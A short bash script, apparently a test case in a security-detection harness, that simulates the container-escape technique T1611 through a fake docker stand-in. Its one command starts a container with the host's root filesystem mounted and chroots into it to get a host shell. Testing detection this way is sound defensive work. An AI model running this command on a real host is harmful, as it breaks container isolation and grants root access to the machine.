#!/usr/bin/env bash
# attack: T1611 Start a container with the host's root mounted, to chroot into it (docker stand-in)
. "$(dirname "$0")/lib/common.sh"
fake docker
"$SW/bin/docker" run --rm -it -v /:/host alpine chroot /host sh
